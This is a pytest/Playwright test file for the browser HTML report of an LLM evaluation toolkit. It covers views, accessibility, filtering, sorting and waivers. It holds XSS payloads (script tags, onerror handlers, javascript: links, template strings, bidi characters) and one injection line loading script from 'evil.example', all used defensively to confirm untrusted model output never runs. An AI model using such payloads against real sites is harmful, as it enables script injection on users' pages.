"""The HTML report in a real browser: what a reviewer does with it, from the disk and from a web server."""

from __future__ import annotations

import re
from dataclasses import replace
from importlib.resources import files
from pathlib import Path

import pytest
import yaml

from evalkit.domain.policy import Waivers
from evalkit.domain.score import Score, Scored
from evalkit.reporters import _format

pytestmark = pytest.mark.browser

VIEWS = {
    "overview": "#/",
    "task": "#/task/invoice-extraction",
    "answers": "#/answers?suite=contract-qa&show=failing",
    "case": "#/case/contract-qa/contract-qa-007?model=gpt-4o&versus=before",
    "changes": "#/changes",
    "trends": "#/trends",
    "review": "#/review?task=support-triage&model=gpt-4o-mini",
}


@pytest.mark.parametrize("view", VIEWS)
def test_every_view_opens_from_the_disk(reader, sample_page, view):
    """Nothing but files beside the page is asked for, and the browser complains about nothing."""
    page = reader.look(sample_page, VIEWS[view])
    assert page.locator("main h1").count() == 1
    root = sample_page.parent.as_uri()
    assert [url for url in reader.asked if url != "about:blank" and not url.startswith((root, "data:"))] == []


def test_it_opens_from_a_web_server(reader, served):
    """The same folder works over HTTP, and asks that server alone."""
    page = reader.look(served, VIEWS["case"])
    assert page.locator(".card").count() == 8
    root = served.removesuffix("index.html")
    assert [url for url in reader.asked if url != "about:blank" and not url.startswith((root, "data:"))] == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("view", VIEWS)
def test_axe_finds_nothing(reader, sample_page, view, scheme):
    """Names, roles, contrast and order hold for whoever cannot see, or sees little."""
    axe = files(pytest.importorskip("axe_playwright_python")).joinpath("axe.min.js").read_text(encoding="utf-8")
    reader.page.emulate_media(color_scheme=scheme)
    page = reader.look(sample_page, VIEWS[view])
    page.evaluate(axe)
    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    told = [f"{one['id']}: {node['html'][:160]}" for one in found["violations"] for node in one["nodes"]]
    assert told == []


def test_the_first_screen_answers(reader, sample_page):
    """What changed, who may serve what and why not, and what it costs, without scrolling."""
    page = reader.look(sample_page)
    for panel, words in {
        "changed": ["2 verdicts, 1 confirmed regression", "mistral-small-2503 → mistral-small-2506", "was undecided"],
        "serving": ["invoice-extraction", "gemini-pro", "may serve it", "low coverage"],
        "costs": ["$18.06", "USD per success", "llama-70b-local"],
    }.items():
        box = page.locator(f"section[aria-labelledby={panel}]")
        assert box.bounding_box()["y"] < 900
        for word in words:
            assert word in box.inner_text(), word


def test_a_reader_filters_and_drills_to_a_failing_case(reader, sample_page):
    """From the matrix to the task, its failing answers, one of them, and the next."""
    page = reader.look(sample_page)
    page.get_by_label("Find").fill("mistral")
    page.wait_for_selector("text=1 of 8")
    assert "q=mistral" in page.url
    page.locator("#matrix thead a", has_text="contract-qa").click()
    page.get_by_role("heading", name="Gates of contract-qa").wait_for()
    page.locator("tr", has_text="mistral-small").get_by_role("link", name="lost points").click()
    page.wait_for_selector(".rows-table")
    assert "show=failing" in page.url
    assert set(page.locator(".rows-table tbody td:nth-child(2)").all_inner_texts()) == {"mistral-small"}
    page.locator(".rows-table tbody th a").first.click()
    page.wait_for_selector(".card")
    chosen = page.locator(".card.chosen")
    assert chosen.locator("h3").inner_text() == "mistral-small"
    assert chosen.get_attribute("class").split()[1] != "right"
    before = page.locator("h1").inner_text()
    page.keyboard.press("n")
    page.wait_for_function("(before) => document.querySelector('h1').textContent !== before", arg=before)


def test_two_runs_are_compared_case_by_case(reader, sample_page):
    """From the changes to an answer that flipped, and what it was in the run before."""
    page = reader.look(sample_page, "#/changes")
    assert "20260920-0200-1c22" in page.locator("main").inner_text()
    page.get_by_role("link", name="All that were right in the last run").click()
    page.wait_for_selector(".rows-table")
    since = page.locator(".rows-table tbody td:last-child .chip").all_text_contents()
    assert set(since) <= {"✕broke"}
    reader.go("#/answers?suite=contract-qa&show=broke")
    page.wait_for_selector(".rows-table tbody th a")
    reader.go(f"#/case/contract-qa/{page.locator('.rows-table tbody th a').first.inner_text()}?versus=before")
    page.wait_for_selector(".card .line.gone")
    assert page.locator(".card .line.new").count() > 0


def test_permalinks_bring_everything_back(reader, sample_page):
    """Filters, sorting and the chosen comparison stand in the address."""
    page = reader.look(sample_page, "#/answers?suite=contract-qa&model=gpt-4o&show=failing&sort=score&down=1")
    assert page.get_by_label("Model", exact=True).input_value() == "gpt-4o"
    assert page.get_by_label("Show", exact=True).input_value() == "failing"
    assert page.locator(".rows-table th[aria-sort=descending]").inner_text().startswith("Score")
    page = reader.look(sample_page, "#/case/contract-qa/contract-qa-007?versus=expected")
    assert page.get_by_label("Show answers").input_value() == "expected"


def test_sorting_is_by_number_and_turns_round(reader, sample_page):
    """A second click on the same head reverses the order."""
    page = reader.look(sample_page, "#/answers?suite=contract-qa")
    head = page.locator(".rows-table thead").get_by_role("button", name="Latency")
    for direction in ("ascending", "descending"):
        head.click()
        page.wait_for_selector(f".rows-table th[aria-sort={direction}]")
        texts = page.locator(".rows-table tbody td:nth-child(6)").all_inner_texts()
        seconds = [float(text.removesuffix(" s")) for text in texts]
        assert seconds == sorted(seconds, reverse=direction == "descending")


def test_only_rows_in_sight_exist(reader, sample_page):
    """Sixteen hundred answers cost what forty do, also at the end of the list."""
    page = reader.look(sample_page, "#/answers?suite=contract-qa")
    assert page.locator(".rows-table").get_attribute("aria-rowcount") == "1601"
    assert page.locator(".rows-table tbody tr").count() < 60
    page.locator(".rows").evaluate("(box) => { box.scrollTop = box.scrollHeight; }")
    page.wait_for_selector(".rows-table tr[aria-rowindex='1601']")
    assert page.locator(".rows-table tbody tr").count() < 60


def test_words_inside_answers_are_found(reader, sample_page):
    """What no list can hold is read shard by shard."""
    page = reader.look(sample_page, "#/answers?suite=contract-qa")
    page.locator("[data-search]").fill("javascript:alert")
    page.get_by_role("button", name="Search inside answers").click()
    page.wait_for_selector("text=with an answer that holds")
    assert page.locator(".rows-table tbody th a").count() > 0


def test_schema_faults_stand_at_their_place(reader, write, made, tmp_path):
    """A violation is a line under the value it is about; what is missing is told below."""
    report, _ = made.sample()
    text = '{"total": "12", "currency": "EUR"}'
    rationale = "/total: '12' is not of type 'number'; /date: missing, expected '2026-01-01'"
    page = reader.look(write(tmp_path, *one_answer(made, report, text=text, rationale=rationale)),
                       "#/case/invoice-extraction/invoice-extraction-000")  # fmt: skip
    fault = page.locator(".line.faulty")
    assert fault.count() == 1
    assert '"total": "12"' in fault.inner_text()
    assert "is not of type 'number'" in fault.inner_text()
    assert "/date" in page.locator(".lost").inner_text()


def one_answer(made, report, *, text, rationale=""):
    """Return the report with one answer alone."""
    outcome = made.an_outcome(text=text)
    scored = Scored(call_key="k0", scores=(Score("fields", 0.5, rationale), Score("json_schema", 0.0, rationale)))
    return replace(report, previous=None), made.FakeReader([outcome], [scored], report.run)


def test_attempts_and_raw_wire_open_on_demand(reader, sample_page):
    """Forty raw exchanges are not built to be hidden."""
    page = reader.look(sample_page, VIEWS["case"])
    card = page.locator(".card.chosen")
    assert card.locator(".wire").count() == 0
    card.locator("summary", has_text="Raw wire").click()
    assert "ACME Ltd" in card.locator(".wire pre").first.inner_text()
    card.locator("summary", has_text="1 attempt").click()
    assert "200" in card.get_by_role("table", name="Attempts of gpt-4o").inner_text()


HOSTILE = {
    "tags": '<img src=x onerror="document.title=1"><svg/onload=alert(1)><script>document.title="pwned"</script>',
    "links": "[click](javascript:alert(1)) javascript:alert(1) data:text/html,<script>1</script>",
    "templates": "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "endings": '</script></style></title><!-- --> ]]> \u2028 \u2029 evalkitShard("summary","x")',
    "bidi": "abc \u202egnp.exe\u202c \u2066x\u2069 zero\u200bwidth \x1b[31m \x00 \ud800",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_answers_are_text(reader, write, made, tmp_path, text):
    """Whatever a model writes is shown as what it wrote, with the unseen written out, and nothing of it runs."""
    report, _ = made.sample()
    page = reader.look(
        write(tmp_path, *one_answer(made, report, text=text)), "#/case/invoice-extraction/invoice-extraction-000"
    )
    shown = page.locator(".card pre").first.inner_text()
    assert "\u202e" not in shown
    assert "\x1b" not in shown
    plain = re.sub(r"[^\x20-\x7e]", "", text)
    assert plain.split()[0] in shown
    assert page.locator("main img, main script, main iframe, main svg[onload]").count() == 0
    assert "pwned" not in page.title()
    assert all(
        href.startswith("#") for href in page.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    )


def test_a_megabyte_in_one_line_is_shown_cut(reader, write, made, tmp_path):
    """The page stays usable, and says how long the whole was."""
    report, _ = made.sample()
    page = reader.look(
        write(tmp_path, *one_answer(made, report, text="x" * 1_000_000)),
        "#/case/invoice-extraction/invoice-extraction-000",
    )
    shown = page.locator(".card pre").first.inner_text()
    assert "1,000,000 characters in all" in shown
    assert len(shown) < 30_000


ATTEMPTS = (
    "document.body.innerHTML = '<b>x</b>'",
    "document.createElement('script').src = 'https://evil.example/x.js'",
    "document.createElement('script').text = 'document.title = 1'",
    "document.write('<script>1</script>')",
)


def test_the_policy_stops_what_got_in(reader, sample_page):
    """Were a string ever to become markup, it would be refused, and a handler or script in it would not run."""
    page = reader.look(sample_page)
    assert [page.evaluate(f"() => {{ try {{ {attempt}; return ''; }} catch (error) {{ return error.name; }} }}")
            for attempt in ATTEMPTS] == ["TypeError"] * len(ATTEMPTS)  # fmt: skip
    reader.complaints.clear()


def test_a_missing_shard_is_said(reader, write, made, tmp_path):
    """A folder that was copied in part does not show an empty page."""
    page_path = write(tmp_path, *made.sample())
    (tmp_path / "shards" / "contract-qa.rows.js").unlink()
    page = reader.look(page_path, VIEWS["answers"])
    assert "shards/contract-qa.rows.js is not beside this page" in page.locator("main").inner_text()
    reader.complaints.clear()


def test_simulated_is_on_every_view(reader, write, made, tmp_path):
    """A screenshot of any view says that nothing real was measured."""
    page_path = write(tmp_path, *made.sample(is_simulated=True))
    for where in VIEWS.values():
        page = reader.look(page_path, where)
        assert page.locator(".simulated").is_visible()
        assert page.title().startswith("[SIMULATED]")


def test_an_empty_report_is_still_a_page(reader, write, made, tmp_path):
    """Before the first measurement there is something to look at, in every view."""
    report, _ = made.sample()
    bare = replace(
        report,
        verdicts=(),
        offers=(),
        cells=(),
        models=(),
        comparisons=(),
        changes=(),
        waivers=(),
        previous=None,
        nights=(),
    )
    page_path = write(tmp_path, bare, made.FakeReader([], [], report.run))
    for name, where in VIEWS.items():
        page = reader.look(page_path, where)
        assert page.locator("main h1").count() == 1, name
        assert page.locator("main").inner_text().strip() not in {"", "Reading…"}


def test_waivers_about_to_end_are_marked(reader, sample_page):
    """By the reader's clock, since a report is read later than it is written."""
    reader.page.clock.set_fixed_time("2026-09-23T12:00:00Z")
    page = reader.look(sample_page, "#/review")
    rows = page.get_by_role("table", name="Waivers").locator("tbody tr").all_inner_texts()
    assert "ends soon" in rows[0]
    assert "legal@example.org" in rows[0]
    assert "11 days left" in rows[1]
    reader.page.clock.set_fixed_time("2026-10-02T12:00:00Z")
    page = reader.look(sample_page, "#/review")
    assert "ended 7 days ago" in page.get_by_role("table", name="Waivers").locator("tbody tr").first.inner_text()


def test_the_printed_waiver_is_one_evalkit_reads(reader, sample_page):
    """What a reviewer copies loads as a waiver, whatever is in the reason."""
    page = reader.look(sample_page, VIEWS["review"])
    page.get_by_label("Action").select_option("hold")
    page.get_by_label("Who").fill("ops: team #1")
    page.get_by_label("Why").fill('it\'s "near" the gate: {a} \\ é 😀 # ok')
    entry = page.get_by_label("entry for waivers.yaml").inner_text()
    (waiver,) = Waivers.model_validate(yaml.safe_load(entry)).waivers
    assert (waiver.task, waiver.model, waiver.action, waiver.by) == (
        "support-triage",
        "gpt-4o-mini",
        "hold",
        "ops: team #1",
    )
    assert waiver.reason == 'it\'s "near" the gate: {a} \\ é 😀 # ok'


def test_keys_work_without_a_mouse(reader, sample_page):
    """Views, search, rows and help are a key away; a field that is written in keeps its letters."""
    page = reader.look(sample_page)
    page.keyboard.press("g")
    page.keyboard.press("a")
    page.wait_for_selector(".rows-table")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_selector(".card")
    page.keyboard.press("?")
    assert page.locator("dialog[open]").count() == 1
    page.keyboard.press("Escape")
    page.keyboard.press("g")
    page.keyboard.press("o")
    page.wait_for_selector("#matrix")
    page.keyboard.press("/")
    page.keyboard.type("gd")
    page.wait_for_selector("text=/^0 of 8$/")


def test_the_theme_can_be_chosen(reader, sample_page):
    """Dark and light change the page, whatever the system wants."""
    page = reader.look(sample_page)
    colours = set()
    for _ in range(2):
        page.keyboard.press("d")
        colours.add(page.evaluate("getComputedStyle(document.body).backgroundColor"))
    assert len(colours) == 2


@pytest.mark.parametrize("view", VIEWS)
def test_a_phone_does_not_scroll_sideways(reader, sample_page, view):
    """Wide tables scroll in their own box."""
    reader.page.set_viewport_size({"width": 390, "height": 844})
    page = reader.look(sample_page, VIEWS[view])
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")


def test_print_leaves_out_what_paper_cannot_do(reader, sample_page):
    """Buttons and search boxes are not printed, verdicts are."""
    page = reader.look(sample_page)
    page.emulate_media(media="print")
    assert not page.locator("#views").is_visible()
    assert not page.get_by_label("Find").is_visible()
    assert page.locator("#matrix").is_visible()


NUMBERS = [0, 1, 0.5, 0.98449, 0.99999, 0.0004, 1e-7, -0.0004, -0.062, 0.1, 12.5, 1234.567, 999999.5, 0.001049, 3.14159]


def test_numbers_are_written_as_in_the_other_reports(reader, sample_page):
    """One value never looks two ways: the script's formats are those of `_format.py`."""
    source = files("evalkit.reporters").joinpath("app/format.js").read_text(encoding="utf-8")
    page = reader.look(sample_page)
    shown = evaluated(page, source)
    expected = [[_format.format_share(n), _format.format_usd(n), _format.format_seconds(n)] for n in NUMBERS]
    assert shown == expected


def evaluated(page, source: str) -> list[list[str]]:
    """Run the script's formats in a bare page, where no policy forbids it."""
    page.goto("about:blank")
    return page.evaluate(f"""() => {{ const report = {{ units: {{}} }}; {source}
      return {NUMBERS}.map((n) => [formatShare(n), formatUsd(n), formatSeconds(n)]); }}""")


def test_the_committed_example_opens(reader):
    """What the repository shows is what the program writes today."""
    page = reader.look(Path(__file__).parents[2] / "reports" / "example" / "index.html")
    assert page.locator(".simulated").is_visible()
    assert page.locator("#matrix").is_visible()
